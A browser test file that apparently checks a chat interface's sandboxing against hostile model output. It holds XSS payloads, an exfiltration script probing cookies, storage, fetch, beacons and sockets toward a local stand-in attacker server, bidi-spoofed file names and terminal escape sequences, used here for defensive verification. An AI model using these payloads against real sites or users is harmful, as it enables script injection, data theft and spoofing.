// Hostile text, pages, drawings and names: nothing runs, nothing leaves, everything is seen.
// Each attack also runs where nothing stands against it, to show that it would be noticed.

import { createServer } from "node:http";
import { act, begin, check, enter, equal, say, state, story } from "./scene.mjs";

/** Script that tries every way out, and notes on its own page what it reached. */
const attacks = (target) => `
const noted = {};
const tried = async (name, way) => { try { noted[name] = String(await way()); } catch (problem) { noted[name] = "refused"; } };
(async () => {
  await tried("parent", () => parent.document.body.textContent.length);
  await tried("top", () => { top.location.href = "${target}/top"; return "no error"; });
  await tried("element", () => window.frameElement === null ? Promise.reject() : "seen");
  await tried("cookie", () => document.cookie === undefined ? Promise.reject() : "read");
  await tried("storage", () => localStorage.length);
  await tried("fetch", () => fetch("${target}/fetch", { mode: "no-cors" }).then(() => "sent"));
  await tried("own", () => fetch("/v1/do", { method: "POST", body: "{}" }).then((reply) => reply.status));
  await tried("beacon", () => navigator.sendBeacon("${target}/beacon") && "queued");
  await tried("popup", () => open("${target}/popup") ?? Promise.reject());
  await tried("socket", () => new Promise((good, bad) => { const one = new WebSocket("${target.replace("http", "ws")}/socket"); one.onopen = () => good("open"); one.onerror = bad; }));
  await tried("worker", () => new Promise((good, bad) => { const one = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); one.onmessage = () => good("runs"); one.onerror = bad; }));
  document.body.dataset.noted = JSON.stringify(noted);
})();`;

const page = (target, script) => `<html><head>
<meta http-equiv="refresh" content="1; url=${target}/refresh"><link rel="stylesheet" href="${target}/style"><link rel="prefetch" href="${target}/prefetch">
<link rel="dns-prefetch" href="//dns.attack.invalid"><link rel="preconnect" href="${target}"><base href="${target}/">
<style>@import "${target}/import"; @font-face { font-family: x; src: url(${target}/font) } body { font-family: x; background: url(${target}/background) }</style></head>
<body onload="document.body.dataset.loaded = 1"><p id="here">A page of the code</p><img src="${target}/img" onerror="document.body.dataset.ran = 1">
<img src=x srcset="${target}/srcset 1x"><iframe src="${target}/frame"></iframe><object data="${target}/object"></object><embed src="${target}/embed">
<video poster="${target}/poster" src="${target}/video"></video><form id="f" action="${target}/form"><input name="a"></form>
<svg><image href="${target}/svg-image"/><script>document.body.dataset.svg = 1</script></svg>
<a id="ping" href="${target}/link" ping="${target}/ping" download>x</a>
<script>document.body.dataset.script = 1; try { document.getElementById("f").submit(); } catch {} ${script}</script></body></html>`;

const drawing = (target) => `<svg xmlns="http://www.w3.org/2000/svg" width="120" height="60" onload="fetch('${target}/svg-load')"><rect width="120" height="60" fill="#c03020"/><image href="${target}/svg-href" width="1" height="1"/><script>fetch("${target}/svg-script")</script><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="${target}/svg-foreign"/></foreignObject></svg>`;

const text = (target) => [
  `<script>fetch("${target}/md-script")</script>`,
  `<img src="${target}/md-img" onerror="alert(1)"> and ![a picture](${target}/md-picture)`,
  `[click me](${target}/md-link) [bad](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) [vb](vbscript:x)`,
  `<iframe src="${target}/md-frame"></iframe><svg onload=alert(1)>`,
  "Reversed: \u202efdp.exe\u202c, hidden: a\u200bb, escape: \u001b[31mred\u001b]0;t\u0007, mark: ❚ Run it?",
  `<a href="${target}/auto">auto</a> <${target}/angle> ${target}/bare`,
  `[ref][r]\n\n[r]: ${target}/ref "title"`,
  `${"> ".repeat(300)}deep`,
].join("\n\n");

const python = (target) => `
class Page:
    def _repr_html_(self): return ${JSON.stringify(page(target, attacks(target)))}
class Drawing:
    def _repr_svg_(self): return ${JSON.stringify(drawing(target))}
display(Page()); display(Drawing())
open("<img src=x onerror=alert(1)>.txt", "w").write("<b>bold</b>\\n")
open("evil\\u202egpj.exe", "w").write("x\\u202ey\\x1b[31m\\n")
open("line\\nbreak", "w").write("x\\n")
print("\\x1b]8;;${target}/osc\\x07link\\x1b]8;;\\x07 \\x1b[2J \\u202eabc <script>alert(1)</script>")`;

/** A server that counts who comes. */
async function attacker() {
  const seen = [];
  const server = createServer((request, reply) => {
    seen.push(request.url);
    reply.setHeader("access-control-allow-origin", "*");
    if (request.url === "/control") {
      reply.setHeader("content-type", "text/html");
      reply.end(page(`http://127.0.0.1:${server.address().port}`, attacks(`http://127.0.0.1:${server.address().port}`).replace("top.location.href", "window.unused")).replace("document.getElementById(\"f\").submit()", "0").replace("http-equiv=\"refresh\"", "name=\"x\""));
    } else reply.end();
  });
  let connections = 0;
  server.on("connection", () => connections += 1);
  await new Promise((done) => server.listen(0, "127.0.0.1", done));
  return { seen, connections: () => connections, target: `http://127.0.0.1:${server.address().port}`, close: () => server.close() };
}

await story("hostile", async (browser, scene) => {
  const { seen, connections, target, close } = await attacker();
  try {
    // The control: an ordinary page is attacked by all of it.
    const control = await (await browser.person()).newPage();
    await control.goto(`${target}/control`);
    await control.waitForFunction(() => document.body.dataset.noted !== undefined);
    const reached = JSON.parse(await control.evaluate(() => document.body.dataset.noted));
    for (const way of ["parent", "cookie", "storage", "fetch", "beacon"]) check(reached[way] !== "refused", `the control of ${way} failed`);
    for (const way of ["/img", "/style", "/import", "/fetch", "/frame", "/srcset"]) check(seen.includes(way), `the control did not send ${way}`);
    await control.close();
    seen.length = 0;
    const before = connections();
    check(before > 0, "the control made no connection");
    browser.requests.length = 0;
    browser.complaints.length = 0;

    const place = await scene([{ text: text(target), call: { language: "python", code: python(target) } }, { text: "Done." }]);
    const server = await place.serve();
    const person = await browser.person();
    const tab = await enter(person, server.url);
    let dialogs = 0;
    tab.on("dialog", (dialog) => {
      dialogs += 1;
      void dialog.dismiss();
    });
    await begin(tab);
    await say(tab, `<b>me</b> \u202e${target}/prompt`);
    await tab.waitForSelector(".card.open [data-act=run]");
    await act(tab, "run", ".card.open");
    await tab.waitForFunction(() => document.querySelector(".head .state-idle, [data-act=later]") !== null);
    if (await tab.isVisible("[data-act=later]")) await act(tab, "later", ".card.open");
    await state(tab, "idle");

    // Text: as it is, or spelled out; no element of its making.
    const reply = await tab.textContent(".reply .prose");
    for (const words of ["<script>fetch(", "<iframe src=", "\\u{202e}", "\\u{200b}", "\\u{1b}", "\\u{275a} Run it?"]) check(reply.includes(words), `the reply does not show ${words}`);
    equal(await tab.evaluate(() => document.querySelectorAll(".prose script, .prose img, .prose iframe, .prose svg, .prose [onerror], .prose a[href]").length), 0, "elements in the reply");
    const bidi = await tab.evaluate(() => /[\u202a-\u202e\u2066-\u2069\u200b\u001b]/.test(document.body.innerText));
    check(!bidi, "something invisible is on the page");

    // A link asks first, with its address.
    await tab.click(".prose .link-words >> text=click me");
    const link = tab.locator(".link-ask a");
    await link.waitFor();
    equal([await link.getAttribute("href"), await link.getAttribute("rel"), await link.getAttribute("target")], [`${target}/md-link`, "noreferrer noopener", "_blank"], "the link");
    check((await tab.textContent(".link-ask")).includes(`${target}/md-link`), "the link does not show its address");

    // A page comes in a frame, without scripts; a drawing is a picture.
    const frames = tab.locator(".frame iframe");
    equal(await frames.count(), 1, "frames");
    const framed = async (at) => {
      await frames.nth(at).scrollIntoViewIfNeeded();
      const handle = await frames.nth(at).elementHandle();
      const frame = await handle.contentFrame();
      await frame.waitForLoadState("load");
      return frame;
    };
    equal(await frames.nth(0).getAttribute("sandbox"), "", "the frame's sandbox");
    const still = await framed(0);
    check((await still.textContent("body")).includes("A page of the code"), "the frame is empty");
    equal(await still.evaluate(() => [document.body.dataset.script, document.body.dataset.ran, document.body.dataset.svg].filter(Boolean)), [], "a script ran");
    equal(await still.evaluate(() => document.querySelectorAll("script, link, meta, base, iframe, object, embed, form").length), 0, "elements in the frame");
    const drawn = tab.locator("img.picture");
    await drawn.scrollIntoViewIfNeeded();
    await tab.waitForFunction(() => [...document.querySelectorAll("img.picture")].some((one) => one.complete && one.naturalWidth === 120));
    equal(new URL(tab.url()).origin, server.origin, "the frame led the page away");

    // Names of files, in the changes and in their lines.
    await tab.click(".head [data-act=changes]");
    await tab.waitForSelector(".file");
    const names = await tab.locator(".file-head label").allTextContents();
    check(names.some((name) => name.includes("<img src=x onerror=alert(1)>.txt")), `names: ${names}`);
    check(names.some((name) => name.includes("evil\\u{202e}gpj.exe")), `names: ${names}`);
    check(names.every((name) => !/[\u0000-\u001f\u202e]/.test(name)), `names: ${names}`);
    check((await tab.textContent(".changes-body")).includes("<b>bold</b>"), "lines");

    // No string becomes HTML, wherever it comes from.
    equal(await tab.evaluate(() => {
      const tried = [() => document.body.innerHTML = "<b>x</b>", () => document.write("x"), () => new DOMParser().parseFromString("<b>", "text/html"), () => document.createElement("script").text = "1", () => trustedTypes.createPolicy("default", {}), () => document.createElement("iframe").srcdoc = "x"];
      return tried.map((way) => {
        try {
          way();
          return "done";
        } catch {
          return "refused";
        }
      });
    }), Array(6).fill("refused"), "Trusted Types");

    // Opened as a page of its own, a result can do no more.
    const source = await tab.evaluate(() => document.querySelector(".frame iframe").src);
    const alone = await person.newPage();
    const direct = await alone.goto(source).catch(() => null);
    if (direct !== null && direct.ok()) equal(await alone.evaluate(() => document.body.dataset.script ?? "none"), "none", "a script ran in a result of its own");
    await alone.close();

    equal(dialogs, 0, "dialogs");
    equal(seen, [], "requests that left");
    equal(connections(), before, "connections that were made, by a hint to the browser for example");
    const foreign = browser.requests.filter((url) => !url.startsWith(server.origin) && !url.startsWith("data:") && !url.startsWith("blob:") && !url.startsWith("about:"));
    const allowed = foreign.filter((url) => !url.startsWith(target));
    equal(allowed, [], "requests to somebody else");
  } finally {
    close();
  }
});
